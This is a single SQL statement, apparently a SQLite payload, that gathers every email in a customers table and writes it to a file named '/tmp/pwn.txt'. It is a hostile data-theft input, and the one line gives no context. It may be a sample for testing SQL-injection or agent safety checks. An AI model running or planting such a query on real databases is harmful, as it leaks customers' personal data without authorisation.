SELECT writefile('/tmp/pwn.txt', group_concat(email)) FROM customers
